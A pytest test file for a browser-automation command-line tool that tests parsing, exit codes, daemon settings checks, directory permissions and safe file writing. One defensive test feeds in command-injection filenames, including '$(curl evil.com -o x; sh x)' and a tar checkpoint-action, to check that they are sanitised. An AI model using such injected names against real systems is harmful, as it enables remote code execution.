"""Verbs of shell agents without a daemon: command lines, exit codes, files, completion, and the page on them."""

import contextlib
import io
import json
import os
import re
import resource
import shutil
import subprocess
import warnings
from collections.abc import AsyncGenerator, Mapping
from pathlib import Path
from types import SimpleNamespace
from typing import Any, cast

import attrs
import pytest
import trio
from click.testing import CliRunner

from agentbrowser.cli import commands
from agentbrowser.cli.settings import SETTINGS
from agentbrowser.cli.verbs import client, files, outcome, runtime_dir
from agentbrowser.cli.verbs.commands import SHELLS, SKILL
from agentbrowser.cli.verbs.handlers import (
    HANDLERS,
    NO_DOWNLOAD_HINT,
    VerbCall,
    download_of_click,
    handle,
    parsed,
    with_opened_tabs,
)
from agentbrowser.cli.verbs.outcome import for_shells
from agentbrowser.cli.verbs.parser import BadArguments, help_of, parse, wants_json
from agentbrowser.cli.verbs.service import DEFAULTS
from agentbrowser.cli.verbs.session import VerbSession, with_timeout
from agentbrowser.cli.verbs.table import BY_NAME, COMMON, MAX_TIMEOUT_S, VERBS, options_of
from agentbrowser.cli.verbs.variables import StartSettings
from agentbrowser.protocol import errors
from agentbrowser.protocol.errors import AgentBrowserError, InvalidParams
from agentbrowser.protocol.types.event import DownloadEvent
from agentbrowser.tools.steps import wire_step
from agentbrowser.tools.table import VERBS as STEPS

MAX_SKILL_TOKENS = 600


def completion(shell: str) -> str:
    return CliRunner().invoke(commands.main, ["completion", shell], prog_name="agentbrowser").stdout


def test_the_client_names_the_verbs_of_the_table() -> None:
    assert set(BY_NAME) == client.NAMES
    assert not client.NAMES & set(commands.main.commands)


def test_each_step_of_the_tools_is_a_verb() -> None:
    assert BY_NAME.keys() - HANDLERS.keys() - {"close"} == set(STEPS) - {"goto", "back"}


@pytest.mark.parametrize(
    ("words", "is_verb"),
    [
        ("open URL", True),
        ("-s open look", True),
        ("--session=a --json click", True),
        ("serve --help", False),
        ("--version", False),
        ("-s", False),
        ("", False),
    ],
)
def test_a_verb_is_found_behind_the_options_of_all_verbs(words: str, is_verb: bool) -> None:
    assert client.is_verb(words.split()) is is_verb


def test_only_a_verb_that_takes_text_from_standard_input_waits_for_it(monkeypatch: pytest.MonkeyPatch) -> None:
    asked: list[bytes] = []

    def ask(_: list[str], stdin: bytes) -> tuple[int, bytes]:
        asked.append(stdin)
        return 0, b""

    monkeypatch.setattr(client, "ask", ask)
    monkeypatch.setattr("sys.stdin", io.TextIOWrapper(io.BytesIO(b"typed")))
    for words in (["press", "-"], ["-s", "fill", "click", "-"], ["fill", "@a", "-"]):
        client.main(words)
    assert asked == [b"", b"", b"typed"]


class Endless(io.RawIOBase):
    """Standard input that never ends."""

    def readable(self) -> bool:
        return True

    def readinto(self, buffer: Any) -> int:
        return len(buffer)


def test_too_much_of_standard_input_is_refused_without_reading_the_rest(
    monkeypatch: pytest.MonkeyPatch, capfd: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setattr(client, "MAX_STDIN_BYTES", 1000)
    monkeypatch.setattr("sys.stdin", io.TextIOWrapper(io.BufferedReader(Endless())))
    assert client.main(["fill", "@a", "-"]) == 2
    assert "has more than 1000 bytes" in capfd.readouterr().out


def test_a_command_line_is_parsed_whatever_its_order() -> None:
    for line in ("-s work fill @a -5 --json", "fill --json @a -5 --session work"):
        given = parse(line.split())
        assert (given.verb, given.on, given.value, given.session, given.json) == ("fill", "@a", "-5", "work", True)
    assert parse(["extract", "name", "price: number", "--list", "mug"]).fields == ["name", "price: number"]


@pytest.mark.parametrize(("text", "why"), [("[1", "no JSON"), ("[" * 100_000, "nested too deep")])
def test_a_file_that_can_not_be_read_as_json_is_refused(text: str, why: str) -> None:
    with pytest.raises(InvalidParams, match=f"The steps are {why}"):
        parsed("The steps are", text)


def test_a_byte_order_mark_before_json_is_passed_over() -> None:
    assert parsed("The steps are", "\ufeff[]") == []


@pytest.mark.parametrize("line", ["click", "click Add it", "look --max-tokens many", "look --tex", "dialog no", "-s"])
def test_a_wrong_command_line_shows_the_usage(line: str) -> None:
    with pytest.raises(BadArguments, match=r"agentbrowser"):
        parse(line.split())


@pytest.mark.parametrize(
    ("words", "name"),
    [
        (["click", ""], "ON"),
        (["wait", " "], "ON"),
        (["click", "a", "--expect", ""], "--expect"),
        (["look", "--tab", ""], "--tab"),
        (["look", "-s", ""], "--session"),
        (["extract", ""], "FIELD"),
        (["click", "a", "--at", "x,y"], "--at"),
    ],
)
def test_an_empty_or_malformed_argument_is_named(words: list[str], name: str) -> None:
    with pytest.raises(BadArguments, match=rf"argument .*{name}: must "):
        parse(words)


def test_words_without_quotes_are_explained() -> None:
    with pytest.raises(BadArguments, match=r"^agentbrowser download: unexpected a\.pdf\nusage: .*--output"):
        parse(["download", "Invoice 1002", "a.pdf"])
    with pytest.raises(BadArguments, match='quote words that belong together: "Add it"'):
        parse(["click", "Add", "it"])


def test_help_on_a_verb_has_all_its_arguments() -> None:
    assert help_of(["-s", "open", "look", "--help"]) == (text := help_of(["look", "--help"]))
    assert all(option.name in text for option in options_of(BY_NAME["look"]))


@pytest.mark.parametrize(
    ("error", "code"),
    [
        (errors.ElementNotFound(""), 3),
        (errors.SelectorAmbiguous(""), 3),
        (errors.PageNotFound(""), 3),
        (errors.DomainNotAllowed(""), 4),
        (errors.ApprovalDenied(""), 4),
        (InvalidParams("", url="file:///etc/passwd", reason="scheme"), 4),
        (InvalidParams("", path="url"), 2),
        (errors.Timeout(""), 5),
        (errors.ElementChanged(""), 6),
        (errors.ActionFailed(""), 1),
        (errors.BrowserNotLaunched(""), 69),
    ],
    ids=lambda value: type(value).__name__ if isinstance(value, AgentBrowserError) else None,
)
def test_an_exit_code_distinguishes_failures(error: AgentBrowserError, code: int) -> None:
    assert outcome.failure(error).exit_code == code


def test_hints_name_commands_and_texts_of_pages_stay() -> None:
    text = '1 click "browser_look": FAILED ElementChanged: gone\n  hint: Call browser_look and choose anew.'
    assert for_shells(text).split("\n") == [
        '1 click "browser_look": FAILED ElementChanged: gone',
        "  hint: Run `agentbrowser look` and choose anew.",
    ]


def test_json_has_the_error_and_its_class() -> None:
    printed = json.loads(outcome.failure(errors.ElementNotFound("None.")).printed(as_json=True))
    assert (printed["ok"], printed["exit"], printed["error"]["class"]) == (False, 3, "ElementNotFound")


def started(environ: dict[str, str], cwd: str = "/home/ann", **flags: object) -> StartSettings:
    return attrs.evolve(StartSettings.of(flags, environ), cwd=cwd)


@pytest.mark.parametrize(
    ("daemon", "verb"),
    [
        (started({}), {}),
        (started({"AGENT_SCOPE": "readonly"}), {}),
        (started({"AGENT_SCOPE": "readonly"}), {"AGENT_SCOPE": "readonly"}),
        (started({}, scope="readonly"), {"AGENT_SCOPE": "readonly"}),
        (started({}, allowed_domains=("a.com", "b.org")), {"AGENT_ALLOWED_DOMAINS": "a.com,b.org"}),
        (started({}, headless=False), {"AGENT_HEADLESS": "false"}),
        (started({"AGENT_SECRETS_FILE": "/home/ann/s.toml"}), {"AGENT_SECRETS_FILE": "s.toml"}),
        (started({}, config="a.toml"), {"AGENT_CONFIG": "a.toml"}),
        # Variables of clients and of the port, which the daemon has not.
        (started({}), {"AGENT_TOKEN": "x", "AGENT_PORT": "none", "AGENT_URL": "ws://a", "AGENT_ID": "7"}),
    ],
)
def test_a_verb_uses_the_daemon_that_was_started_with_its_variables(
    daemon: StartSettings, verb: dict[str, str]
) -> None:
    assert daemon.problem(verb, "/home/ann", DEFAULTS) is None


@pytest.mark.parametrize(
    ("daemon", "verb", "cwd", "names"),
    [
        (started({}), {"AGENT_ALLOWED_DOMAINS": "localhost"}, "/home/ann", "AGENT_ALLOWED_DOMAINS differs"),
        (started({}), {"AGENT_SECRETS_FILE": "none.toml"}, "/home/ann", "AGENT_SECRETS_FILE differs"),
        (started({"AGENT_SECRETS_FILE": "a.toml"}), {"AGENT_SECRETS_FILE": "a.toml"}, "/b", "AGENT_SECRETS_FILE"),
        (started({"AGENT_UPLOAD_ROOT": "."}), {"AGENT_UPLOAD_ROOT": "."}, "/b", "AGENT_UPLOAD_ROOT differs"),
        (started({"AGENT_SCOPE": "readonly"}, scope="full"), {"AGENT_SCOPE": "readonly"}, "/home/ann", "AGENT_SCOPE"),
        (started({}), {"AGENT_CONFIG": "/none.toml"}, "/home/ann", "AGENT_CONFIG differs"),
        (
            started({}),
            {"AGENT_SCOPE": "readonly", "AGENT_BROWSER": "firefox"},
            "/home/ann",
            "AGENT_SCOPE and AGENT_BROWSER differ",
        ),
    ],
)
def test_a_verb_with_another_limit_than_the_daemons_is_refused(
    daemon: StartSettings, verb: dict[str, str], cwd: str, names: str
) -> None:
    problem = daemon.problem(verb, cwd, DEFAULTS)
    assert problem is not None
    assert problem.startswith(names)
    assert "agentbrowser close --all" in problem
    assert "\n" not in problem


@pytest.mark.parametrize("variable", ["AGENT_SECRETS_FILE", "AGENT_APPROVALS", "AGENT_CONFIG"])
def test_a_file_that_was_changed_after_the_daemons_start_is_noticed(variable: str, tmp_path: Path) -> None:
    file = tmp_path / "read.toml"
    file.write_text("a = 1")
    daemon, verb = StartSettings.of({}, {variable: str(file)}), {variable: str(file)}
    assert daemon.problem(verb, "/", DEFAULTS) is None
    file.write_text("a = 10")
    assert (daemon.problem(verb, "/", DEFAULTS) or "").startswith(f"{variable} differs from what the running daemon ")
    assert daemon.problem({}, "/", DEFAULTS) is None
    file.unlink()
    assert daemon.problem(verb, "/", DEFAULTS) is not None


@pytest.mark.parametrize(
    ("variable", "text", "expected"),
    [
        ("AGENT_SCOPE", "bogus", "AGENT_SCOPE must be readonly, standard, full or privileged, not 'bogus'"),
        ("AGENT_ALLOWED_DOMAINS", "", "--allowed-domains must not be an empty list"),
        ("AGENT_MAX_PAGES", "0", "AGENT_MAX_PAGES must be at least 1"),
    ],
)
def test_an_invalid_variable_of_a_verb_is_refused_as_serve_refuses_it(variable: str, text: str, expected: str) -> None:
    problem = started({}).problem({variable: text}, "/home/ann", DEFAULTS)
    assert problem is not None
    assert problem.startswith(expected)


def test_each_path_among_the_settings_is_compared_from_its_folder() -> None:
    paths = {
        *("AGENT_AUDIT_LOG", "AGENT_APPROVALS", "AGENT_BROWSER_EXECUTABLE", "AGENT_CONFIG", "AGENT_RECORD_DIR"),
        *("AGENT_SECRETS_FILE", "AGENT_STATE_DIR", "AGENT_STATE_KEY_FILE", "AGENT_UPLOAD_ROOT"),
    }
    named = {setting.variable for setting in SETTINGS if setting.name != "port"} | {"AGENT_CONFIG"}
    given = dict.fromkeys(named, "a")
    elsewhere = started(given).problem(given, "/elsewhere", DEFAULTS)
    assert elsewhere is not None
    assert set(re.findall(r"AGENT_\w+", elsewhere)) == paths


def test_a_usage_error_is_json_when_json_is_wanted() -> None:
    shown = json.loads(outcome.not_run("agentbrowser click: …").printed(as_json=wants_json(["click", "--json"])))
    assert shown == {
        "ok": False,
        "exit": 2,
        "text": "agentbrowser click: …",
        "error": {"class": "BadUsage", "message": "agentbrowser click: …"},
    }
    assert not wants_json(["click"])


def test_help_on_json_names_the_keys_of_the_output() -> None:
    described = next(option.help for option in COMMON if option.name == "--json")
    full = outcome.Outcome(text="", error={"class": ""}, results={"a": 1}, files=("a",)).printed(as_json=True)
    assert set(re.findall(r"\w+", described.removeprefix("print JSON: "))) == json.loads(full).keys()


def test_the_help_of_the_program_lists_the_verbs() -> None:
    shown = CliRunner().invoke(commands.main, ["--help"]).stdout
    for verb in VERBS:
        assert re.search(rf"^  {verb.name} +{re.escape(verb.help[:30])}", shown, re.MULTILINE)


@pytest.mark.parametrize("words", ["clik foo", "-s work clik", "--tab=t clik", "clik"])
def test_an_unknown_verb_is_answered_with_a_similar_one_and_the_list(words: str) -> None:
    ran = CliRunner().invoke(commands.main, words.split(), prog_name="agentbrowser")
    assert (ran.exit_code, ran.stderr) == (2, "")
    assert "No verb or command is called 'clik'. Did you mean click" in ran.stdout
    assert all(name in ran.stdout for name in BY_NAME)


def test_an_unknown_verb_is_answered_in_json() -> None:
    for words in (["clik", "--json"], ["--json", "clik"]):
        ran = CliRunner().invoke(commands.main, words, prog_name="agentbrowser")
        assert (ran.exit_code, json.loads(ran.stdout)["exit"], ran.stderr) == (2, 2, "")
    assert "No verb or command is called 'zzzzz'. The verbs are" in CliRunner().invoke(commands.main, ["zzzzz"]).stdout


def test_an_option_of_verbs_before_a_command_is_refused_as_such() -> None:
    ran = CliRunner().invoke(commands.main, ["-s", "work", "docs"], prog_name="agentbrowser")
    assert (ran.exit_code, "No such option" in ran.stderr) == (2, True)


@pytest.mark.parametrize("given", ["0", "-1", "nan", "inf", "241", "soon"])
def test_a_timeout_is_a_number_of_seconds_within_the_maximum(given: str) -> None:
    assert parse(["wait", "words", "--timeout", "7.5"]).timeout == 7.5
    with pytest.raises(BadArguments, match="must be a number of seconds above 0, at most 240"):
        parse(["wait", "words", f"--timeout={given}"])


def test_a_timeout_holds_for_each_step_and_its_expected_outcome() -> None:
    steps = [
        {"action": "action/click", "params": {"selector": {}, "options": {"button": "right"}}, "expect": {"text": "a"}},
        {"action": "page/waitFor", "params": {"text": "b"}},
    ]
    assert with_timeout("agent/act", {"steps": steps, "timeout": 1000, "pageId": "p"}, 7) == {
        "steps": [
            {
                "action": "action/click",
                "params": {"selector": {}, "options": {"button": "right", "timeout": 7}},
                "expect": {"text": "a", "timeout": 7},
            },
            {"action": "page/waitFor", "params": {"text": "b", "timeout": 7}},
        ],
        "timeout": 1042,
        "pageId": "p",
    }
    longest = with_timeout("agent/act", {"steps": steps, "timeout": 1000}, MAX_TIMEOUT_S * 1000)
    assert longest["timeout"] == 300_000
    assert with_timeout("script/evaluate", {"expression": "1"}, 7) == {"expression": "1", "timeout": 7}
    assert with_timeout("page/list", {}, 7) == {}


class Links:
    """Link whose client is another one after each loss; it is the connection of each."""

    def __init__(self) -> None:
        self.lose()

    def lose(self) -> None:
        self.opened: Any = type("Client", (), {"connection": self, "request": self.request})()

    async def browser(self) -> Any:
        return self.opened

    async def subscribe(self, names: object) -> None:
        return None

    async def request(self, method: str, params: object) -> None:
        assert method == "events/subscribe"  # dialogs stay open for as long as a model thinks


def test_the_first_verb_that_expects_a_page_learns_that_its_session_is_new() -> None:
    link: Any = Links()
    session = VerbSession(link)

    async def surprised(verb: str, launches: int = 1) -> bool:
        await session.open()
        return session.surprises(verb, launches)

    async def run() -> None:
        assert not await surprised("open")
        assert not await surprised("look")
        link.lose()
        assert not await surprised("tabs")
        assert not await surprised("state")
        assert await surprised("click")
        assert not await surprised("click")
        assert await surprised("look", launches=2)
        assert not await surprised("look", launches=2)
        assert not await surprised("open", launches=3)
        assert not await surprised("look", launches=3)

    trio.run(run)


@attrs.frozen
class LimitedRunner:
    """Runner of a client whose scope excludes downloads; it has no tools, so that a click would be an error."""

    @property
    def browser(self) -> "LimitedRunner":
        return self

    async def downloads(self) -> list[object]:
        raise errors.ScopeDenied(
            "download/list needs the scope full; this connection has standard.",
            hint="Ask the operator for a token with that scope.",
        )


def test_a_download_without_its_scope_is_refused_before_the_click(tmp_path: Path) -> None:
    arguments = parse(["download", "Get the list"])
    runner: Any = LimitedRunner()
    call = VerbCall(arguments=arguments, cwd=str(tmp_path), stdin=b"", upload_root=tmp_path, runner=runner)
    with pytest.raises(errors.ScopeDenied) as denied:
        trio.run(handle, call)
    refused = outcome.failure(denied.value)
    assert refused.exit_code == 4
    assert "needs the scope full" in refused.text
    assert refused.text.endswith("set AGENT_SCOPE for the next one.")


@pytest.mark.parametrize("name", ["shot.gif", "shot.webp", "a.png.txt"])
def test_a_screenshot_of_another_type_is_refused(name: str, tmp_path: Path) -> None:
    runner: Any = LimitedRunner()
    arguments = parse(["screenshot", name])
    call = VerbCall(arguments=arguments, cwd=str(tmp_path), stdin=b"", upload_root=tmp_path, runner=runner)
    with pytest.raises(InvalidParams, match=r"end in \.png, \.jpg or \.jpeg"):
        trio.run(handle, call)


@pytest.mark.parametrize("line", ["screenshot -", "state save -", "download Get -o -"])
def test_a_file_is_not_written_to_standard_output(line: str, tmp_path: Path) -> None:
    runner: Any = LimitedRunner()
    call = VerbCall(arguments=parse(line.split()), cwd=str(tmp_path), stdin=b"", upload_root=tmp_path, runner=runner)
    with pytest.raises(InvalidParams, match="standard output"):
        trio.run(handle, call)


@pytest.mark.parametrize("line", ["fill @password -", "run -", "eval -"])
def test_standard_input_that_is_not_utf8_is_refused(line: str, tmp_path: Path) -> None:
    runner: Any = LimitedRunner()
    stdin = "pässword".encode("latin-1")
    call = VerbCall(arguments=parse(line.split()), cwd=str(tmp_path), stdin=stdin, upload_root=tmp_path, runner=runner)
    with pytest.raises(InvalidParams, match=r"^Standard input can't be read: it is no text in UTF-8\.$"):
        trio.run(handle, call)


def test_an_argument_that_is_not_utf8_is_refused(tmp_path: Path) -> None:
    runner: Any = LimitedRunner()
    arguments = parse(["fill", "@password", b"p\xe4ssword".decode("utf-8", "surrogateescape")])
    call = VerbCall(arguments=arguments, cwd=str(tmp_path), stdin=b"", upload_root=tmp_path, runner=runner)
    with pytest.raises(InvalidParams, match=r"^The argument can't be read: it is no text in UTF-8\.$"):
        trio.run(handle, call)


class StepRunner(LimitedRunner):
    """Runner that checks the step of a verb, and runs nothing."""

    async def run(self, name: str, arguments: Mapping[str, Any]) -> Any:
        return wire_step(0, arguments["steps"][0])


@pytest.mark.parametrize(
    ("words", "error"),
    [
        (["scroll", "sideways"], "HOW of scroll must be up, down"),
        (["press", ""], "KEY of press must be given"),
        (["drag", "a", ""], "TARGET of drag must be given"),
        (["wait", "--gone"], "ON of wait must be given"),
        (["wait", "url:/x", "--gone"], "--gone is for words"),
    ],
)
def test_an_error_of_a_verb_names_its_own_argument(words: list[str], error: str, tmp_path: Path) -> None:
    runner: Any = StepRunner()
    call = VerbCall(arguments=parse(words), cwd=str(tmp_path), stdin=b"", upload_root=tmp_path, runner=runner)
    with pytest.raises(InvalidParams, match=f"^{error}") as refused:
        trio.run(handle, call)
    assert refused.value.details.get("path") in (None, error.split()[0])


def test_the_hint_of_a_download_that_did_not_begin_is_a_command() -> None:
    shown = outcome.failure(errors.ActionFailed("Nothing.", hint=NO_DOWNLOAD_HINT)).text
    assert shown == "ActionFailed: Nothing.\nhint: Run `agentbrowser look`."


def test_a_download_that_ends_after_a_click_is_not_the_one_that_it_begins() -> None:
    async def events() -> AsyncGenerator[DownloadEvent, None]:
        for id_, state in (("old", "completed"), ("new", "started")):
            yield DownloadEvent(download_id=id_, page_id="p", url="", suggested_filename="", state=cast("Any", state))

    async def run() -> None:
        client = SimpleNamespace(results={"agent/act": {"results": [{"step": 0}]}})
        browser = SimpleNamespace(download=lambda event: event.download_id)
        call: Any = SimpleNamespace(runner=SimpleNamespace(client=client, browser=browser))
        async with contextlib.aclosing(events()) as heard:
            assert await download_of_click(call, heard, {"old"}) == "new"  # type: ignore[comparison-overlap]

    trio.run(run)


def test_a_tab_that_a_step_opens_is_said_not_to_be_active() -> None:
    act = {"results": [{"step": 0, "error": {}}, {"step": 1, "result": {"newPages": [{"pageId": "p2", "url": "/"}]}}]}
    acted = outcome.Outcome(text="2 click: opened tab p2", results={"agent/act": act})
    assert with_opened_tabs(acted).text.split("\n") == [
        "2 click: opened tab p2",
        "hint: p2 is not the active tab; `agentbrowser tabs --use p2` makes it that",
    ]
    for others in ({}, {"agent/act": {"results": [{"step": 0, "result": {}}]}}):
        assert with_opened_tabs(outcome.Outcome(text="done", results=others)).text == "done"


def test_a_directory_that_others_can_enter_is_not_trusted(tmp_path: Path) -> None:
    directory = tmp_path / "run"
    runtime_dir.create(str(directory))
    assert directory.stat().st_mode & 0o777 == 0o700
    directory.chmod(0o770)
    with pytest.raises(runtime_dir.BadRuntimeDir, match="open to other users"):
        runtime_dir.create(str(directory))
    link = tmp_path / "link"
    directory.chmod(0o700)
    link.symlink_to(directory)
    with pytest.raises(runtime_dir.BadRuntimeDir, match="is no directory"):
        runtime_dir.check(str(link))
    long = tmp_path / ("x" * 100)
    with pytest.raises(runtime_dir.BadRuntimeDir, match="too long"):
        runtime_dir.create(str(long))


def test_a_directory_below_missing_ones_is_created_for_its_user_alone(tmp_path: Path) -> None:
    runtime_dir.create(str(tmp_path / "a" / "b" / "run"))
    assert [one.stat().st_mode & 0o777 for one in (tmp_path / "a", tmp_path / "a" / "b")] == [0o700, 0o700]
    (tmp_path / "file").write_text("")
    for attempt in (runtime_dir.create, runtime_dir.check):
        with pytest.raises(runtime_dir.BadRuntimeDir, match=r"file/run can't be .*AGENTBROWSER_RUNTIME_DIR"):
            attempt(str(tmp_path / "file" / "run"))


def test_a_directory_of_another_user_is_not_trusted(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    directory = tmp_path / "run"
    runtime_dir.create(str(directory))
    monkeypatch.setattr(os, "geteuid", lambda: directory.stat().st_uid + 1)
    with pytest.raises(runtime_dir.BadRuntimeDir, match="another user"):
        client.ask(["look"], directory=str(directory))


def test_a_file_is_never_overwritten_by_chance(tmp_path: Path) -> None:
    written = [files.write_new(str(tmp_path), "list.csv", content).name for content in (b"1", b"2", b"3")]
    assert written == ["list.csv", "list-1.csv", "list-2.csv"]
    assert (tmp_path / "list.csv").read_bytes() == b"1"
    assert files.write_new(str(tmp_path), "screenshot.jpg", b"", is_numbered=True).name == "screenshot-1.jpg"


@pytest.mark.parametrize(
    ("suggested", "written"),
    [
        ("$(curl evil.com -o x; sh x).csv", "_(curl evil.com -o x_ sh x).csv"),
        ("`id`.csv", "_id_.csv"),
        ("--checkpoint-action=exec=sh x", "_-checkpoint-action=exec=sh x"),
        (".bashrc", "_bashrc"),
        ("it's a & b; c.csv", "it_s a _ b_ c.csv"),
        ("Umsätze [2026] (1), 50%.csv", "Umsätze [2026] (1), 50%.csv"),
    ],
)
def test_a_shell_obeys_nothing_in_the_name_of_a_download(tmp_path: Path, suggested: str, written: str) -> None:
    assert files.write_new(str(tmp_path), suggested, b"").name == written


def test_a_file_that_does_not_fit_on_the_disk_leaves_nothing_behind_and_the_earlier_login_as_it_was(
    tmp_path: Path,
) -> None:
    login = files.write(tmp_path / "login.json", b"earlier", is_private=True)
    earlier = resource.getrlimit(resource.RLIMIT_FSIZE)
    resource.setrlimit(resource.RLIMIT_FSIZE, (4096, earlier[1]))
    try:
        with pytest.raises(errors.ActionFailed, match=r"list\.csv can't be written"):
            files.write_new(str(tmp_path), "list.csv", b"x" * 10_000)
        with pytest.raises(errors.ActionFailed, match=r"page\.png can't be written"):
            files.write(tmp_path / "page.png", b"x" * 10_000)
        with pytest.raises(errors.ActionFailed, match=r"login\.json can't be written"):
            files.write(login, b"x" * 10_000, is_private=True)
    finally:
        resource.setrlimit(resource.RLIMIT_FSIZE, earlier)
    assert [(file.name, file.read_bytes()) for file in tmp_path.iterdir()] == [("login.json", b"earlier")]


def test_a_verb_in_a_removed_folder_names_it(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    folder = tmp_path / "gone"
    folder.mkdir()
    monkeypatch.chdir(folder)
    monkeypatch.setenv("PWD", str(folder))
    folder.rmdir()
    assert client.working_directory() == StartSettings.of({}, {}).cwd == str(folder)
    monkeypatch.setenv("PWD", "")
    with pytest.raises(errors.ActionFailed, match="can't be written"):
        files.write_new(client.working_directory(), "list.csv", b"")
    monkeypatch.chdir(tmp_path)
    assert client.working_directory() == str(tmp_path)


def test_a_file_with_a_login_is_private_even_if_it_was_not(tmp_path: Path) -> None:
    path = tmp_path / "state.json"
    path.touch(0o644)
    files.write(path, b"{}", is_private=True)
    assert path.stat().st_mode & 0o777 == 0o600


def test_a_link_is_followed_before_an_upload_is_checked(tmp_path: Path) -> None:
    (tmp_path / "root").mkdir()
    (tmp_path / "root" / "a.txt").touch()
    (tmp_path / "b.txt").touch()
    (tmp_path / "root" / "link").symlink_to(tmp_path / "b.txt")
    root = (tmp_path / "root").resolve()
    assert files.below(root, root / "a.txt") == "a.txt"
    with pytest.raises(InvalidParams, match="not below the upload root"):
        files.below(root, root / "link")


def test_the_page_for_shell_agents_is_short_and_names_what_there_is() -> None:
    text = SKILL.read_text(encoding="utf-8")
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", DeprecationWarning)  # the package uses an old function of importlib
        bpe_openai = pytest.importorskip("bpe_openai")
    assert 300 < len(bpe_openai.get_encoding("o200k_base").encode(text)) <= MAX_SKILL_TOKENS
    words = set(re.findall(r"[a-z]+", text))
    assert words >= client.NAMES
    options = {option.name for verb in VERBS for option in options_of(verb)}
    assert set(re.findall(r"(?<!\w)--[a-z-]+", text)) <= options | {"--help"}
    assert CliRunner().invoke(commands.main, ["skill"]).stdout == text


@pytest.mark.parametrize("shell", SHELLS)
def test_completion_knows_all_verbs_and_commands(shell: str) -> None:
    script = completion(shell)
    for name in (*client.NAMES, *commands.main.commands):
        assert re.search(rf"\b{name}\b", script)
    if found := shutil.which(shell):
        subprocess.run([found, "-n"], input=script, text=True, check=True)


def test_bash_completes_verbs_options_and_values() -> None:
    def completed(*words: str) -> list[str]:
        line = " ".join(f"'{word}'" for word in ("agentbrowser", *words))
        program = (
            f"{completion('bash')}\nCOMP_WORDS=({line}); COMP_CWORD={len(words)}; _agentbrowser; echo ${{COMPREPLY[*]}}"
        )
        return subprocess.run(["bash", "-c", program], capture_output=True, text=True, check=True).stdout.split()

    assert completed("cl") == ["click", "clear", "close"]
    assert completed("-s", "work", "look", "--c") == ["--changes", "--console", "--cursor"]
    assert completed("state", "s") == ["save"]
    assert completed("token", "n") == ["new"]
